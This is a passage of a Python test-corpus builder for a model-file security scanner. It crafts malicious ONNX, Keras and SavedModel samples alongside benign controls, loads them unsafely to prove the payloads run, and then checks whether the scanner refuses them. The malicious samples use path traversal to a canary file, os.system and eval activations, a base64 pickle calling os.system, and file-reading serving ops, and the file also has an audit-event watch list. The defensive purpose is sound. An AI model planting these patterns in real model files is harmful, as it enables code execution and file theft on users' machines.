        nodes, inputs = [helper.make_node("AddC", ["x"], ["y"], domain="evil")], [x]
    graph = helper.make_graph(nodes, "g", inputs, [y])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18), helper.make_opsetid("evil", 1)],
                              functions=functions)
    model.ir_version = 9
    return _save(model, directory / "model.onnx")


def _sparse_external(directory: Path, location: str) -> str:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    directory.mkdir(parents=True, exist_ok=True)
    values = numpy_helper.from_array(np.ones(2, np.float32), "s")
    values.ClearField("raw_data")
    values.data_location = TensorProto.EXTERNAL
    values.external_data.add(key="location", value=location)
    indices = numpy_helper.from_array(np.array([0, 3], np.int64), "s_idx")
    sparse = helper.make_sparse_tensor(values, indices, [4])
    graph = helper.make_graph([helper.make_node("Add", ["x", "s"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])], sparse_initializer=[sparse])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 9
    return _save(model, directory / "model.onnx")


def onnx_external_data_samples(root: Path, canary: Path) -> list[_Built]:
    """Traversal (``..``, absolute, Windows and NUL forms), symlinks (file, directory), a hard link, a FIFO,
    onnxruntime's memory tag, and external tensors hidden in Constant nodes, If branches, functions and
    sparse initializers; benign: data beside the model, in a subdirectory, through a symlink that stays inside."""
    root = Path(root) / "onnx"
    samples: list[_Built] = []

    def add(path: str | Path, name: str, malicious: bool = True) -> None:
        samples.append(_Built(str(path), "onnx-external-data", name, malicious))

    size = canary.stat().st_size
    for depth in range(1, 7):  # "../" * depth + the canary's path from the filesystem root
        d = root / f"dotdot{depth}"
        model, path = _onnx_base(d / "a" / "b" / "c" / "d" / "e" / "f")
        rel = os.path.relpath(canary, path.parent) if depth == 1 else "../" * (depth + 12) + str(canary).lstrip("/")
        _point(model, rel, min(size, 32))
        add(_save(model, path), f"dotdot-{depth}")
    for name, location in (("absolute", str(canary)), ("dot-slash-dotdot", "./" + os.path.relpath(canary, root / "x")),
                           ("inner-dotdot", "sub/../" + os.path.relpath(canary, root / "x")), ("backslash", "..\\..\\" + canary.name),
                           ("windows-drive", "C:\\Windows\\win.ini"), ("unc", "\\\\server\\share\\w.bin"),
                           ("nul-byte", "w.bin\x00/../../" + canary.name), ("ort-memory-tag", "*/_ORT_MEM_ADDR_/*")):
        model, path = _onnx_base(root / name)
        _point(model, location, 16)
        add(_save(model, path), name)
    # a symlink as the data file, and a symlinked directory on the way
    model, path = _onnx_base(root / "symlink-file")
    (path.parent / "w.bin").unlink()
    os.symlink(canary, path.parent / "w.bin")
    _point(model, "w.bin", min(size, 32))
    add(_save(model, path), "symlink-file")
    model, path = _onnx_base(root / "symlink-dir")
    os.symlink(canary.parent, path.parent / "sub")
    _point(model, f"sub/{canary.name}", min(size, 32))
    add(_save(model, path), "symlink-dir")
    model, path = _onnx_base(root / "symlink-chain")  # inside -> inside -> outside
    os.symlink(canary, path.parent / "hop2")
    os.symlink("hop2", path.parent / "hop1")
    _point(model, "hop1", min(size, 32))
    add(_save(model, path), "symlink-chain")
    model, path = _onnx_base(root / "hard-link")
    (path.parent / "w.bin").unlink()
    os.link(canary, path.parent / "w.bin")
    _point(model, "w.bin", min(size, 32))
    add(_save(model, path), "hard-link")
    model, path = _onnx_base(root / "two-locations")  # readers that take the first entry would go outside
    _point(model, os.path.relpath(canary, path.parent), min(size, 32))
    model.graph.initializer[0].external_data.add(key="location", value="w.bin")
    add(_save(model, path), "two-locations")
    model, path = _onnx_base(root / "fifo")
    (path.parent / "w.bin").unlink()
    os.mkfifo(path.parent / "w.bin")
    add(_save(model, path), "fifo")
    rel = os.path.relpath(canary, root / "constant")
    add(_external_constant(root / "constant", rel, where="graph"), "constant-node")
    add(_external_constant(root / "if-branch", os.path.relpath(canary, root / "if-branch"), where="if"), "if-branch")
    add(_external_constant(root / "function", os.path.relpath(canary, root / "function"), where="function"), "function")
    add(_sparse_external(root / "sparse", os.path.relpath(canary, root / "sparse")), "sparse-initializer")
    # benign
    add(_onnx_base(root / "benign-beside")[1], "benign-beside", False)
    add(_onnx_base(root / "benign-subdir", "weights/w.bin")[1], "benign-subdir", False)
    model, path = _onnx_base(root / "benign-symlink-inside", "real/w.bin")
    os.symlink("real", path.parent / "alias")
    _point(model, "alias/w.bin", 32)
    add(_save(model, path), "benign-symlink-inside", False)
    return samples


# --------------------------------------------------------------------------- Keras configs


def _keras():
    from modelport.quiet import native_output

    with native_output():
        import keras
    keras.utils.set_random_seed(0)
    return keras


def _rewrite_config(src: Path, dst: Path, change: Callable[[dict], Any]) -> str:
    """Copy the .keras archive ``src`` to ``dst`` with ``change(config)`` applied to its config.json."""
    with zipfile.ZipFile(src) as zin:
        members = {n: zin.read(n) for n in zin.namelist()}
    config = json.loads(members["config.json"])
    change(config)
    members["config.json"] = json.dumps(config).encode()
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(dst, "w") as zout:
        for n, data in members.items():
            zout.writestr(n, data)
    return str(dst)


def _layers(config: dict) -> list[dict]:
    return config["config"]["layers"]


def _dense(config: dict) -> dict:
    return next(layer for layer in _layers(config) if layer["class_name"] == "Dense")


def keras_config_samples(root: Path, canary: Path) -> list[_Built]:
    """Lambda layers (.keras and .h5, nested in a Sequential inside a Functional), Python lambdas and custom or
    non-modelling functions as activations (``os.system``, ``builtins.eval``, ``keras.utils.get_file``,
    ``enable_unsafe_deserialization``), custom modules and registered names, code-carrying built-ins
    (TorchModuleWrapper, TFSMLayer, JaxLayer), lookup layers reading a vocabulary file, unknown classes;
    benign: Sequential, Functional with keras ops, .h5, regularized and constrained layers."""
    import logging

    keras = _keras()
    from keras import layers

    root = Path(root) / "keras"
    root.mkdir(parents=True, exist_ok=True)
    written = canary.with_suffix(".written")
    samples: list[_Built] = []

    def add(path: str | Path, name: str, malicious: bool = True) -> None:
        samples.append(_Built(str(path), "keras-config", name, malicious))

    base = keras.Sequential([keras.Input((4,)), layers.Dense(3, activation="relu", name="dense"), layers.Dense(2, name="out")],
                            name="base")
    base_path = root / "benign-sequential.keras"
    base.save(base_path)
    add(base_path, "benign-sequential", False)
    inp = keras.Input((4,), name="x")
    h = layers.Dense(3, kernel_regularizer=keras.regularizers.L2(1e-3), kernel_constraint=keras.constraints.MaxNorm(2),
                     name="dense")(inp)
    out = keras.ops.sin(h) * 2.0 + layers.BatchNormalization()(h)
    functional = keras.Model(inp, out, name="ops")
    functional.save(root / "benign-functional-ops.keras")
    add(root / "benign-functional-ops.keras", "benign-functional-ops", False)
    absl = logging.getLogger("absl")  # Keras warns that HDF5 is legacy
    level = absl.level
    absl.setLevel(logging.ERROR)
    try:
        base.save(root / "benign.h5")
        # A real Lambda whose function writes the canary's sibling when Keras rebuilds the model.
        evil = eval(f"lambda t: (open({str(written)!r}, 'a').close(), t)[1]")  # noqa: S307 - the attack itself
        lam = keras.Sequential([keras.Input((4,)), layers.Lambda(evil, name="payload"), layers.Dense(2)], name="lam")
        lam.save(root / "lambda.h5")
    finally:
        absl.setLevel(level)
    add(root / "benign.h5", "benign-h5", False)
    add(root / "lambda.h5", "lambda-h5")
    lam.save(root / "lambda.keras")
    add(root / "lambda.keras", "lambda-keras")
    outer_in = keras.Input((4,), name="x")
    nested = keras.Model(outer_in, layers.Dense(2)(lam(outer_in)), name="outer")
    nested.save(root / "lambda-nested.keras")
    add(root / "lambda-nested.keras", "lambda-nested")
    code = next(layer for layer in _layers(json.loads(zipfile.ZipFile(root / "lambda.keras").read("config.json")))
                if layer["class_name"] == "Lambda")["config"]["function"]

    def activation(value: Any) -> Callable[[dict], None]:
        return lambda config: _dense(config)["config"].update(activation=value)

    variants: dict[str, Callable[[dict], None]] = {
        "lambda-activation": activation(code),
        "os-system-activation": activation({"module": "os", "class_name": "function", "config": "system",
                                            "registered_name": "system"}),
        "builtins-eval-activation": activation({"module": "builtins", "class_name": "function", "config": "eval",
                                                "registered_name": None}),
        "get-file-activation": activation({"module": "keras.utils", "class_name": "function", "config": "get_file",
                                           "registered_name": None}),
        "unsafe-deserialization": activation({"module": "keras.src.saving.serialization_lib", "class_name": "function",
                                              "config": "enable_unsafe_deserialization", "registered_name": None}),
        "custom-module": lambda c: _dense(c).update(module="attack_pkg.layers"),
        "registered-custom": lambda c: _dense(c).update(registered_name="Custom>Dense"),
        "unknown-class": lambda c: _dense(c).update(class_name="NotALayer"),
        "custom-initializer": lambda c: _dense(c)["config"].update(kernel_initializer={
            "module": "attack_pkg", "class_name": "Evil", "config": {}, "registered_name": "attack>Evil"}),
        "main-module-class": lambda c: _dense(c).update(module="__main__", class_name="Evil"),
        "typespec-from-os": activation({"class_name": "__typespec__", "spec_name": "system", "module": "os",
                                        "registered_name": None, "config": []}),
        "torch-module-wrapper": lambda c: _layers(c).insert(1, {
            "module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
            "config": {"name": "torch", "module": base64.b64encode(b"\x80\x04cos\nsystem\n.").decode()}}),
        "tfsm-layer": lambda c: _layers(c).insert(1, {
            "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
            "config": {"name": "sm", "filepath": str(canary.parent), "call_endpoint": "serve"}}),
        "jax-layer": lambda c: _layers(c).insert(1, {
            "module": "keras.layers", "class_name": "JaxLayer", "registered_name": None,
            "config": {"name": "jax", "call_fn": {"module": "os", "class_name": "function", "config": "system"}}}),
        "string-lookup-vocab-file": lambda c: _layers(c).insert(1, {
            "module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
            "config": {"name": "lookup", "vocabulary": str(canary)}}),
        "integer-lookup-vocab-file": lambda c: _layers(c).insert(1, {
            "module": "keras.layers", "class_name": "IntegerLookup", "registered_name": None,
            "config": {"name": "lookup", "vocabulary": str(canary)}}),
        "text-vectorization-vocab-file": lambda c: _layers(c).insert(1, {
            "module": "keras.layers", "class_name": "TextVectorization", "registered_name": None,
            "config": {"name": "tv", "vocabulary": str(canary)}}),
        "bidirectional-custom-cell": lambda c: _layers(c).insert(1, {
            "module": "keras.layers", "class_name": "Bidirectional", "registered_name": None,
            "config": {"name": "bi", "layer": {"module": "attack_pkg", "class_name": "EvilLSTM", "config": {},
                                               "registered_name": "attack>EvilLSTM"}}}),
    }
    for name, change in variants.items():
        add(_rewrite_config(base_path, root / f"{name}.keras", change), name)
    # the legacy .h5 form: a config class no keras module defines
    import h5py

    shutil.copyfile(root / "benign.h5", root / "custom-class.h5")
    with h5py.File(root / "custom-class.h5", "r+") as f:
        config = json.loads(f.attrs["model_config"])
        config["config"]["layers"][1]["class_name"] = "EvilLayer"
        f.attrs["model_config"] = json.dumps(config)
    add(root / "custom-class.h5", "custom-class-h5")
    return samples


# --------------------------------------------------------------------------- SavedModel file ops


def savedmodel_file_op_samples(root: Path, canary: Path) -> list[_Built]:
    """Serving functions that read (ReadFile, MatchingFiles, a TextLine dataset, a vocabulary file table), write
    (WriteFile, PrintV2 to a file, SaveV2 to a fixed prefix) or run Python (py_function), one hidden in a nested
    function; benign: a tf.Module and a Keras export (which save and restore their variables with SaveV2/RestoreV2)."""
    from modelport.quiet import native_output

    with native_output():
        import tensorflow as tf
    root = Path(root) / "savedmodel"
    root.mkdir(parents=True, exist_ok=True)
    written = str(canary.with_suffix(".written"))
    secret = str(canary)
    samples: list[_Built] = []
    spec = [tf.TensorSpec([None, 4], tf.float32, name="x")]

    def save(name: str, body: Callable, malicious: bool = True, extra: Callable[[tf.Module], None] | None = None) -> None:
        module = tf.Module()
        module.w = tf.Variable(tf.ones((4, 2)))
        if extra is not None:
            extra(module)
        module.serve = tf.function(lambda x: {"y": body(module, x)}, input_signature=spec)
        path = root / name
        with native_output(), contextlib.redirect_stdout(io.StringIO()):
            tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
        samples.append(_Built(str(path), "savedmodel-file-ops", name, malicious))

    def plus(x, t):
        return tf.matmul(x, t) if t.dtype == tf.float32 else tf.matmul(x, tf.ones((4, 2))) + tf.cast(
            tf.strings.length(t), tf.float32)

    save("read-file", lambda m, x: plus(x, tf.io.read_file(secret)))
    save("matching-files", lambda m, x: plus(x, tf.strings.reduce_join(tf.io.matching_files(str(canary.parent) + "/*"))))
    save("write-file", lambda m, x: (tf.io.write_file(written, tf.strings.as_string(x[0, 0])), tf.matmul(x, m.w))[1])
    save("print-to-file", lambda m, x: (tf.print(x, output_stream=f"file://{written}"), tf.matmul(x, m.w))[1])
    save("py-function", lambda m, x: tf.reshape(tf.py_function(lambda t: (open(written, "a").close(), t)[1], [x],
                                                               tf.float32), [-1, 4]) @ m.w)
    save("save-fixed-prefix", lambda m, x: (tf.raw_ops.SaveV2(prefix=written, tensor_names=["w"], shape_and_slices=[""],
                                                               tensors=[m.w]), tf.matmul(x, m.w))[1])
    save("text-line-dataset", lambda m, x: plus(x, tf.data.TextLineDataset(secret).reduce(
        tf.constant(""), lambda a, b: a + b)))

    def vocab_table(m, x):  # a table filled from a fixed path, at serving time
        handle = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
        init = tf.raw_ops.InitializeTableFromTextFileV2(table_handle=handle, filename=secret, key_index=-2,
                                                        value_index=-1)
        with tf.control_dependencies([init]):
            found = tf.raw_ops.LookupTableFindV2(table_handle=handle, keys=tf.constant("a"),
                                                 default_value=tf.constant(-1, tf.int64))
        return tf.matmul(x, m.w) + tf.cast(found, tf.float32)

    save("vocab-file-table", vocab_table)
    vocab = root / "vocab.txt"
    vocab.write_text("a\nb\nc\n")

    def asset_table(module: tf.Module) -> None:  # a vocabulary shipped in the model's assets: how tables are saved
        module.table = tf.lookup.StaticHashTable(
            tf.lookup.TextFileInitializer(str(vocab), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE,
                                          tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER), -1)

    save("benign-vocab-asset", lambda m, x: tf.matmul(x, m.w) + tf.cast(m.table.lookup(tf.constant("b")), tf.float32),
         False, extra=asset_table)

    @tf.function
    def hidden(t):
        return t + tf.cast(tf.strings.length(tf.io.read_file(secret)), tf.float32)

    save("nested-function", lambda m, x: hidden(tf.matmul(x, m.w)))
    save("benign-module", lambda m, x: tf.nn.relu(tf.matmul(x, m.w)), False)
    keras = _keras()
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])
    with native_output(), contextlib.redirect_stdout(io.StringIO()):
        model.export(str(root / "benign-keras-export"), verbose=False)
    samples.append(_Built(str(root / "benign-keras-export"), "savedmodel-file-ops", "benign-keras-export", False))
    return samples




def _secret(out: Path) -> Path:
    secret = out / "_outside" / "canary-secret.txt"
    if not secret.exists():
        secret.parent.mkdir(parents=True, exist_ok=True)
        secret.write_text("modelport canary: if you can read this, a loader escaped\n" * 4)
    return secret


def _loader_family(c: Corpus, build: Callable[[Path, Path], list[_Built]], loader: str) -> None:
    secret = _secret(c.out)
    written = secret.with_suffix(".written")
    for b in build(c.out / c.family, secret):
        rel = os.path.relpath(b.path, c.out)
        if b.malicious:
            c.samples.append(Sample(rel, c.family, "malicious", loader, False, str(written), None, b.name))
        else:
            c.samples.append(Sample(rel, c.family, "benign", loader, False, None, "unsupported", b.name))
    written.unlink(missing_ok=True)  # Keras ran the Lambda while building the corpus


@family("onnx-external-data")
def _onnx_family(c: Corpus) -> None:
    _loader_family(c, onnx_external_data_samples, "onnx")


@family("keras-config")
def _keras_family(c: Corpus) -> None:
    _loader_family(c, keras_config_samples, "keras")


@family("savedmodel-file-ops")
def _savedmodel_family(c: Corpus) -> None:
    _loader_family(c, savedmodel_file_op_samples, "savedmodel")


LOADER_FAMILIES = ("onnx-external-data", "keras-config", "savedmodel-file-ops")
PICKLE_FAMILIES = tuple(f for f in FAMILIES if f not in LOADER_FAMILIES)


# --------------------------------------------------------------------------- driver


def write_corpus(out: str | Path, canary_dir: str | Path | None = None, families: list[str] | None = None) -> list[Sample]:
    """Write the corpus into ``out``; returns the samples (also written to ``out/manifest.json``)."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    canaries = Path(canary_dir) if canary_dir else out / "_canaries"
    canaries.mkdir(parents=True, exist_ok=True)
    corpus = Corpus(out, canaries)
    for name, fn in FAMILIES.items():
        if families and name not in families:
            continue
        corpus.family = name
        fn(corpus)
    manifest = {"canary_dir": str(canaries), "samples": [dataclasses.asdict(s) for s in corpus.samples]}
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1))
    return corpus.samples


def load_manifest(out: str | Path) -> list[Sample]:
    doc = json.loads((Path(out) / "manifest.json").read_text())
    return [Sample(**s) for s in doc["samples"]]


def _open_nested(base: Path, chain: list[str]) -> bytes:
    data = base.read_bytes()
    for name in chain:
        if data[257:262] == b"ustar" or data[:2] == b"\x1f\x8b":  # a tar (a zip inside one also looks like a zip)
            with tarfile.open(fileobj=io.BytesIO(data)) as t:
                fh = t.extractfile(name)
                assert fh is not None
                data = fh.read()
        else:
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                data = z.read(name)
    return data


def _load_unsafely(path: Path, loader: str, out: Path) -> None:
    """DANGER: the naive way to load ``path``; this runs its payload (which only creates a canary)."""
    head, _, rest = loader.partition(":")
    if head == "pickle":
        with open(path, "rb") as fh:
            pickle.load(fh)
    elif head == "torch":
        import torch

        torch.load(str(path), weights_only=False)
    elif head == "torch-import":
        import torch

        sys.path.insert(0, str(out / rest))
        torch.load(str(path), weights_only=False)
    elif head == "joblib":
        import joblib

        joblib.load(str(path))
    elif head == "numpy":
        import numpy as np

        loaded = np.load(str(path), allow_pickle=True)
        if hasattr(loaded, "files"):
            for k in loaded.files:
                loaded[k]
    elif head == "gzip":
        pickle.loads(gzip.decompress(path.read_bytes()))
    elif head in ("zip", "tar"):
        chain = rest.split(":")
        data = _open_nested(path, chain)
        if chain[-1].endswith(".pt"):
            import torch

            torch.load(io.BytesIO(data), weights_only=False)
        else:
            pickle.loads(data)
    else:
        raise ValueError(f"unknown loader {loader!r}")


def prove_live(out: str | Path) -> dict[str, bool]:
    """Load every live malicious sample unsafely (in this process!); sample path -> its canary appeared."""
    import time

    out = Path(out)
    results = {}
    samples = [s for s in load_manifest(out) if s.kind == "malicious" and s.live]
    for s in samples:
        try:
            _load_unsafely(out / s.path, s.loader or "", out)
        except Exception:  # noqa: BLE001  (a truncated pickle fails after its payload ran)
            pass
    deadline = time.time() + 10  # Popen and spawn run asynchronously
    while time.time() < deadline and not all(Path(s.canary).exists() for s in samples if s.canary):
        time.sleep(0.1)
    for s in samples:
        results[s.path] = bool(s.canary) and Path(s.canary).exists()
    return results


# --------------------------------------------------------------------------- evaluation (never loads unsafely)

# Running code raises one of these (eval and exec raise "exec"; compile alone runs nothing, and
# ast.literal_eval of a .npy header raises it, so it is not counted).
WATCHED_EVENTS = ("os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty",
                  "exec", "pickle.find_class", "marshal.loads", "ctypes.dlopen")


# Python's import machinery raises these for every module it loads (a lazy import inside torch or
# numpy); a payload raises them outside it (eval, exec, compile, marshal.loads of its own code).
_IMPORT_EVENTS = {"exec", "marshal.loads", "ctypes.dlopen"}


# ... and typing / inspect raise "exec" evaluating string annotations (the CLI's own: typer reads them).
_ANNOTATIONS = {("typing.py", "_evaluate"), ("inspect.py", "get_annotations")}


# modelport forks to read untrusted HDF5 in isolation (security.loaders._child_result): that fork is the
# defence, not a payload; what runs in the child is watched too (its events are spooled back to the parent).
_ISOLATION_FORKS = {(os.path.join("modelport", "security", "loaders.py"), "_child_result")}


def _isolation_fork() -> bool:
    frame = sys._getframe(2)
    while frame is not None:
        code = frame.f_code
        if any(code.co_filename.endswith(f) and code.co_name == n for f, n in _ISOLATION_FORKS):
            return True
        frame = frame.f_back
    return False


def _importing() -> bool:
    frame = sys._getframe(2)
    while frame is not None:
        code = frame.f_code
        if code.co_filename.startswith("<frozen importlib") or (os.path.basename(code.co_filename),
                                                                 code.co_name) in _ANNOTATIONS:
            return True
        frame = frame.f_back
    return False


class AuditWatch:
    """Counts audit events (sys.addaudithook) that running a payload raises, while active.

    The hook is installed once per process (audit hooks cannot be removed) and costs one
    attribute test per event while inactive.
    """

    _installed = False
    _active: AuditWatch | None = None

    def __init__(self) -> None:
        self._events: list[tuple[str, str]] = []
        self._pid = os.getpid()
        fd, name = tempfile.mkstemp(prefix="attack-audit-", suffix=".jsonl")
        os.close(fd)
        self._spool = Path(name)  # events raised in forked children, appended there

    @property
    def events(self) -> list[tuple[str, str]]:
        """The events seen so far, in this process and in any process forked from it while active."""
        try:
            spooled = [tuple(json.loads(line)) for line in self._spool.read_text().splitlines() if line.strip()]
        except (OSError, ValueError):
            spooled = []
        return self._events + [(f"{e} (in a forked child)", a) for e, a in spooled]

    def _record(self, event: str, detail: str) -> None:
        if os.getpid() == self._pid:
            self._events.append((event, detail))
        else:  # a child's memory dies with it: the event goes to the spool file
            with open(self._spool, "a") as f:
                f.write(json.dumps([event, detail]) + "\n")

    @classmethod
    def _hook(cls, event: str, args: tuple[Any, ...]) -> None:
        watch = cls._active
        if watch is None:
            return
        if event == "import":
            if args and str(args[0]).startswith("corpus_"):  # the pickled module's own file
                watch._record(event, str(args[0]))
        elif event == "os.fork" and os.getpid() == watch._pid and _isolation_fork():
            return
        elif event in WATCHED_EVENTS and not (event in _IMPORT_EVENTS and _importing()):
            watch._record(event, repr(args)[:120])

    def __enter__(self) -> AuditWatch:
        if not AuditWatch._installed:
            sys.addaudithook(AuditWatch._hook)
            AuditWatch._installed = True
        AuditWatch._active = self
        return self

    def __exit__(self, *exc: object) -> None:
        AuditWatch._active = None
        self._events = self.events
        self._spool.unlink(missing_ok=True)
        self._spool = Path(os.devnull)


@dataclasses.dataclass(frozen=True)
class Outcome:
    sample: Sample
    scan: str  # clean | unsafe | unreadable | error (with the exit code it maps to)
    scan_exit: int
    rescue_exit: int | None  # exit code of convert --to safetensors (library), None when not tried
    detail: str


def evaluate(out: str | Path, *, rescue: bool = True, rescued_dir: str | Path | None = None) -> dict[str, Any]:
    """Scan (and rescue) every pickle sample of the corpus (library calls), watching for any payload running.

    Nothing here loads a sample unsafely: a canary that appears, or a watched audit event, means
    modelport executed a payload.
    """
    from modelport.convert.pickle_to_safetensors import convert_checkpoint
    from modelport.errors import ModelportError
    from modelport.security.pickles import scan_path

    out = Path(out)
    samples = [s for s in load_manifest(out) if s.family not in LOADER_FAMILIES]  # the pickle families
    canary_dir = Path(json.loads((out / "manifest.json").read_text())["canary_dir"])
    target = Path(rescued_dir or tempfile.mkdtemp(prefix="rescued-"))
    outcomes = []
    with AuditWatch() as watch:
        for i, s in enumerate(samples):
            try:
                report = scan_path(out / s.path)
                scan, code, detail = report.verdict, report.exit_code, report.summary()
            except ModelportError as exc:
                scan, code, detail = "error", exc.exit_code, str(exc)
            rc = None
            if rescue:
                try:
                    convert_checkpoint(out / s.path, target / f"{i}.safetensors")
                    rc = 0
                except ModelportError as exc:
                    rc = exc.exit_code
            outcomes.append(Outcome(s, scan, code, rc, detail))
    canaries = sorted(p.name for p in canary_dir.iterdir()) if canary_dir.is_dir() else []
    bad = [o for o in outcomes if o.sample.kind == "malicious"]
    good = [o for o in outcomes if o.sample.kind == "benign"]
    return {
        "malicious": len(bad),
        "malicious_live": sum(o.sample.live for o in bad),
        "refused_by_scan": sum(o.scan_exit == 4 for o in bad),
        "refused_by_rescue": sum(o.rescue_exit == 4 for o in bad) if rescue else None,
        "executed": len(canaries) + len(watch.events),
        "canaries": canaries,
        "audit_events": watch.events,
        "benign": len(good),
        "accepted_by_scan": sum(o.scan_exit == 0 for o in good),
        "rescuable": sum(o.sample.rescue == "ok" for o in good),
        "rescued": sum(o.rescue_exit == 0 for o in good if o.sample.rescue == "ok") if rescue else None,
        "outcomes": outcomes,
    }


# --------------------------------------------------------------------------- the frameworks alone


class _OpenWatch:
    """Counts opens and reads of some files by anyone in this process, C++ included (Linux inotify)."""

    IN_ACCESS, IN_OPEN = 0x1, 0x20

    def __init__(self, paths: list[Path]) -> None:
        self.fd = -1
        try:
            self.libc = ctypes.CDLL(None, use_errno=True)
            self.fd = self.libc.inotify_init1(os.O_NONBLOCK)
        except (OSError, AttributeError):
            return
        for p in paths:
            self.libc.inotify_add_watch(self.fd, os.fsencode(p), self.IN_OPEN | self.IN_ACCESS)

    @property
    def available(self) -> bool:
        return self.fd >= 0

    def count(self) -> int:
        if self.fd < 0:
            return 0
        n = 0
        while True:
            try:
                data = os.read(self.fd, 65536)
            except BlockingIOError:
                return n
            off = 0
            while off + 16 <= len(data):
                name_len = int.from_bytes(data[off + 12: off + 16], sys.byteorder)
                n += 1
                off += 16 + name_len




def _framework_load(s: Sample, path: Path) -> str:
    """Load a sample with the framework's own loader, as a program without modelport would; returns what happened."""
    import numpy as np

    from modelport.quiet import native_output

    with native_output(), contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
        if s.loader == "onnx":
            import onnxruntime as ort

            sess = ort.InferenceSession(str(path), providers=["CPUExecutionProvider"])
            feeds = {i.name: np.zeros([d if isinstance(d, int) else 1 for d in i.shape],
                                      np.bool_ if i.type == "tensor(bool)" else np.float32) for i in sess.get_inputs()}
            sess.run(None, feeds)
        elif s.loader == "keras":
            import keras

            keras.models.load_model(str(path), compile=False, safe_mode=True)
        else:
            import tensorflow as tf

            fn = tf.saved_model.load(str(path)).signatures["serving_default"]
            fn(x=tf.zeros((1, 4)))
    return "loaded"


def baseline(out: str | Path) -> dict[str, Any]:
    """DANGER (bounded): the malicious loader samples loaded by onnxruntime / keras (safe_mode=True) /
    tf.saved_model alone (and run); their payloads only read the corpus's secret or write beside it."""
    out = Path(out)
    secret = _secret(out)
    written = secret.with_suffix(".written")
    watch = _OpenWatch([secret])
    res: dict[str, dict[str, Any]] = {}
    for s in load_manifest(out):
        if s.kind != "malicious" or s.family not in LOADER_FAMILIES or s.note == "fifo":  # a FIFO blocks for ever
            continue
        watch.count()
        try:
            what = _framework_load(s, out / s.path)
        except Exception as exc:  # noqa: BLE001 - the framework's own refusal or failure
            what = f"failed: {type(exc).__name__}"
        f = res.setdefault(s.family, {"malicious": 0, "loaded": 0, "canary_opened": 0, "canary_written": 0, "which": []})
        f["malicious"] += 1
        f["loaded"] += what == "loaded"
        opened, wrote = watch.count() > 0, written.exists()
        written.unlink(missing_ok=True)
        f["canary_opened"] += opened
        f["canary_written"] += wrote
        if what == "loaded" or opened or wrote:
            f["which"].append(f"{s.note}: {what}{', read the canary' if opened else ''}"
                              f"{', wrote the canary' if wrote else ''}")
    return res


# --------------------------------------------------------------------------- evaluation through the CLI


def _cli(args: list[str]) -> tuple[int, str]:
    """``modelport ARGS`` in this process, as a user runs it: (exit code, its stderr on one line)."""
    from modelport.cli.app import main as modelport_main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            rc = modelport_main(args)
        except SystemExit as exc:  # typer exits on usage errors
            rc = exc.code if isinstance(exc.code, int) else 2
    return rc, " ".join(err.getvalue().split())


def commands_for(s: Sample, path: Path, scratch: Path) -> list[tuple[list[str], int]]:
    """The modelport commands a user would run on the sample, each with the exit code it must give."""
    if s.family in LOADER_FAMILIES:
        return [(["inspect", str(path)], 4 if s.kind == "malicious" else 0)]
    dest = scratch / (Path(s.path).name.replace(".", "_") + ".safetensors")
    convert = ["convert", str(path), "--to", "safetensors", "-o", str(dest)]
    if s.kind == "malicious":
        return [(["scan", str(path)], 4), (convert, 4)]
    return [(["scan", str(path)], 0), (convert, 0 if s.rescue == "ok" else 3)]


@dataclasses.dataclass(frozen=True)
class CliOutcome:
    sample: Sample
    exits: tuple[int, ...]
    expected: tuple[int, ...]
    executed: tuple[str, ...]  # the evidence that code ran: canaries, audit events, the secret read or written
    message: str

    @property
    def ok(self) -> bool:
        return self.exits == self.expected and not self.executed


def evaluate_cli(out: str | Path) -> dict[str, Any]:
    """Every sample through the modelport CLI (scan + convert for pickles, inspect for the loader families),
    in this process, watching a canary directory, the secret (inotify: C++ reads too) and an audit hook."""
    out = Path(out)
    samples = load_manifest(out)
    canary_dir = Path(json.loads((out / "manifest.json").read_text())["canary_dir"])
    secret = _secret(out)
    written = secret.with_suffix(".written")
    inotify = _OpenWatch([secret])
    scratch = Path(tempfile.mkdtemp(prefix="modelport-corpus-eval-"))
    outcomes = []
    t0 = time.perf_counter()
    try:
        with AuditWatch() as watch:
            for s in samples:
                before = set(os.listdir(canary_dir)) if canary_dir.is_dir() else set()
                n_events = len(watch.events)
                inotify.count()
                cmds = commands_for(s, out / s.path, scratch)
                exits, messages = [], []
                for args, _ in cmds:
                    rc, err = _cli(args)
                    exits.append(rc)
                    messages.append(err)
                time.sleep(0.0)
                evidence = [f"canary {n}" for n in sorted(set(os.listdir(canary_dir)) - before)] if canary_dir.is_dir() else []
                evidence += [f"audit {e}: {a}" for e, a in watch.events[n_events:]]
                if inotify.count():
                    evidence.append("secret opened")
                if written.exists():
                    evidence.append("secret's sibling written")
                    written.unlink()
                outcomes.append(CliOutcome(s, tuple(exits), tuple(e for _, e in cmds), tuple(evidence),
                                           " | ".join(m for m in messages if m)[:300]))
        time.sleep(1.0)  # Popen and spawn would run asynchronously: look again for late canaries
        late = set(os.listdir(canary_dir)) if canary_dir.is_dir() else set()
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    seen = {e.split(" ", 1)[1] for o in outcomes for e in o.executed if e.startswith("canary ")}
    families: dict[str, dict[str, int]] = {}
    for o in outcomes:
        f = families.setdefault(o.sample.family, {"malicious": 0, "refused": 0, "executed": 0, "benign": 0,
                                                  "accepted": 0})
        if o.sample.kind == "malicious":
            f["malicious"] += 1
